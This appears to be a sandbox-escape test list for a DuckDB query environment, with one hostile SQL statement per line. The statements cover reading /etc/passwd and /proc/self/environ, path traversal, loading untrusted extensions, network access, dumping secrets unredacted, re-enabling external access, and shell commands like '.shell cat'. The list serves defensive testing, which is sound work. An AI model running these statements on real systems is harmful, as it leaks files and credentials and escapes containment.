-- Attempts to leave the sandbox, one a line; @DIR@ is a folder with canaries, @URL@ an open port, @DB@ the database itself.
-- reading files
from read_text('@DIR@/secret.txt')
from read_blob('@DIR@/secret.txt')
from read_csv('@DIR@/secret.csv')
from read_csv_auto('@DIR@/secret.csv')
from read_csv(['@DIR@/secret.csv', '@DIR@/secret.txt'], union_by_name = true)
from sniff_csv('@DIR@/secret.csv')
from read_json('@DIR@/secret.json')
from read_json_auto('@DIR@/secret.json')
from read_json_objects('@DIR@/secret.json')
from read_ndjson('@DIR@/secret.json')
from read_ndjson_objects('@DIR@/secret.json')
from read_parquet('@DIR@/secret.parquet')
from parquet_scan('@DIR@/secret.parquet')
from parquet_metadata('@DIR@/secret.parquet')
from parquet_schema('@DIR@/secret.parquet')
from parquet_file_metadata('@DIR@/secret.parquet')
from parquet_kv_metadata('@DIR@/secret.parquet')
from parquet_bloom_probe('@DIR@/secret.parquet', 't', 'x')
from '@DIR@/secret.csv'
from '@DIR@/secret.parquet'
from '@DIR@/secret.json'
from '@DIR@/secret.duckdb'
from '@DIR@/*.csv'
from "@DIR@/secret.csv"
from glob('@DIR@/*')
from glob('/etc/pass*')
from read_text('/etc/passwd')
from read_text('/proc/self/environ')
from read_text('/proc/self/cmdline')
from read_blob('/proc/self/mem')
from read_text('/proc/self/maps')
from read_text('/proc/1/environ')
from read_text('/dev/stdin')
from read_text('/dev/fd/0')
from read_text('file://@DIR@/secret.txt')
from read_text('@DIR@/../../../../../../../../etc/passwd')
from read_text(['@DIR@/secret.txt'])
select (select content from read_text('@DIR@/secret.txt'))
select * from quotes, lateral (select * from read_text('@DIR@/secret.txt')) as stolen
with stolen as (from read_text('@DIR@/secret.txt')) from stolen
explain analyze from read_text('@DIR@/secret.txt')
describe from read_csv('@DIR@/secret.csv')
summarize from '@DIR@/secret.parquet'
prepare p as from read_text('@DIR@/secret.txt')
select * from query('from read_text(''@DIR@/secret.txt'')')
select * from query_table('@DIR@/secret.csv')
select * from query_table(['@DIR@/secret.csv'])
create macro steal() as table from read_text('@DIR@/secret.txt')
create temp macro steal() as table from read_text('@DIR@/secret.txt')
create temp view stolen as from read_text('@DIR@/secret.txt')
create temp table stolen as from read_text('@DIR@/secret.txt')
insert into quotes from read_csv('@DIR@/secret.csv')
copy quotes from '@DIR@/secret.csv'
pivot '@DIR@/secret.csv' on t
show tables from '@DIR@/secret.duckdb'
-- writing files
copy quotes to '@DIR@/out.csv'
copy quotes to '@DIR@/out.parquet' (format parquet)
copy quotes to '@DIR@/out.json' (format json)
copy (select 1) to '@DIR@/out.bin' (format blob)
copy (select 1 as a, 2 as b) to '@DIR@/out' (format csv, partition_by (a))
copy (select 1 as a) to '@DIR@/out' (format parquet, per_thread_output)
copy quotes to '/dev/stdout'
copy quotes to '/dev/stderr'
copy quotes to '/proc/self/fd/1'
copy quotes to '@DB@'
export database '@DIR@/out'
export database '@DIR@/out' (format parquet)
import database '@DIR@'
explain analyze copy quotes to '@DIR@/out.csv'
copy from database analytics to stolen
create table t as select 1
create or replace table quotes as select 1
insert into quotes values ('a', 'b')
update quotes set text = ''
delete from quotes
truncate quotes
drop table quotes
alter table quotes add column x int
alter table quotes rename to x
create index i on quotes (speaker)
create schema s
create sequence s
create type mood as enum ('good')
create view v as select 1
comment on table quotes is 'changed'
checkpoint
force checkpoint
vacuum
vacuum analyze
-- other databases
attach '@DIR@/secret.duckdb' as stolen
attach '@DIR@/secret.duckdb' as stolen (read_only)
attach '@DIR@/new.duckdb' as new
attach '@DB@' as again (read_write)
attach or replace '@DIR@/new.duckdb' as analytics
attach 'duckdb:@DIR@/secret.duckdb' as stolen
attach '@URL@/secret.duckdb' as stolen
attach 'sqlite:@DIR@/secret.db' as stolen
attach 'postgres:host=127.0.0.1' as stolen
attach ':memory:' as room
attach '@DIR@/secret.duckdb' as stolen (encryption_key 'x')
detach analytics
use memory
-- extensions
install httpfs
install spatial from community
install '@DIR@/evil.duckdb_extension'
force install httpfs from '@URL@'
load httpfs
load '@DIR@/evil.duckdb_extension'
load '@DIR@/secret.txt'
update extensions
select * from read_xlsx('@DIR@/secret.xlsx')
select * from st_read('@DIR@/secret.txt')
select * from sqlite_scan('@DIR@/secret.db', 't')
select * from postgres_scan('host=127.0.0.1', 'public', 't')
select * from iceberg_scan('@DIR@')
select * from delta_scan('@DIR@')
call load_aws_credentials()
-- network
from read_text('@URL@/secret.txt')
from read_csv('@URL@/secret.csv')
from '@URL@/secret.parquet'
from read_parquet('s3://bucket/secret.parquet')
from read_parquet('hf://datasets/x/y/secret.parquet')
from read_parquet('gcs://bucket/secret.parquet')
copy quotes to '@URL@/out.csv'
-- secrets, environment, host
create secret s (type s3, key_id 'a', secret 'b')
create persistent secret s (type http, bearer_token 'b')
create secret s (type http, extra_http_headers map {'a': 'b'})
from duckdb_secrets(redact = false)
from which_secret('s3://bucket/x', 's3')
drop secret s
select getenv('HATSUGEN_CANARY')
select getenv('PATH')
select current_setting('home_directory')
select getvariable('HATSUGEN_CANARY')
set variable x = (select content from read_text('@DIR@/secret.txt'))
from canary
select * from canary_table
from python_scan(1)
from pandas_scan(94000000000000)
from arrow_scan(94000000000000, 94000000000000, 94000000000000)
from arrow_scan_dumb(94000000000000, 94000000000000, 94000000000000)
from seq_scan('quotes')
-- settings
set enable_external_access = true
set global enable_external_access = true
reset enable_external_access
pragma enable_external_access = true
set lock_configuration = false
reset lock_configuration
pragma lock_configuration = false
set allowed_directories = ['/']
set allowed_paths = ['@DIR@/secret.txt']
set memory_limit = '100GB'
pragma memory_limit = '100GB'
reset memory_limit
set threads = 64
reset threads
set max_execution_time = 0
reset max_execution_time
set max_expression_depth = 1000000
set temp_directory = '@DIR@'
pragma temp_directory = '@DIR@'
reset temp_directory
set max_temp_directory_size = '100GB'
set home_directory = '@DIR@'
set extension_directory = '@DIR@'
set custom_extension_repository = '@URL@'
set autoinstall_known_extensions = true
set autoload_known_extensions = true
set allow_unsigned_extensions = true
set allow_community_extensions = true
set allow_persistent_secrets = true
set secret_directory = '@DIR@'
set python_enable_replacements = true
set python_scan_all_frames = true
set file_search_path = '@DIR@'
set disabled_filesystems = ''
set http_proxy = '@URL@'
set log_query_path = '@DIR@/out.log'
set profiling_output = '@DIR@/out.json'
set profile_output = '@DIR@/out.json'
pragma enable_profiling = 'json'
pragma profiling_output = '@DIR@/out.json'
pragma log_query_path = '@DIR@/out.log'
pragma enable_logging
call enable_logging(storage = 'file', storage_config = {'path': '@DIR@'})
call enable_logging('QueryLog', storage = 'file', storage_path = '@DIR@')
call enable_logging(storage = 'stdout')
call disable_logging()
call truncate_duckdb_logs()
call enable_profiling(save_location = '@DIR@/out.json')
pragma add_parquet_key('k', '0123456789112345')
pragma import_database('@DIR@')
call force_checkpoint('analytics')
call checkpoint()
-- input of shells, and several statements
.shell cat @DIR@/secret.txt
.system touch @DIR@/out
.read @DIR@/secret.sql
.open @DIR@/secret.duckdb
.output @DIR@/out
\copy quotes to '@DIR@/out.csv'
!cat @DIR@/secret.txt
select 1; from read_text('@DIR@/secret.txt')
select 1; set lock_configuration = false
begin; drop table quotes; commit
/* select 1; */ from read_text('@DIR@/secret.txt')
execute immediate 'from read_text(''@DIR@/secret.txt'')'
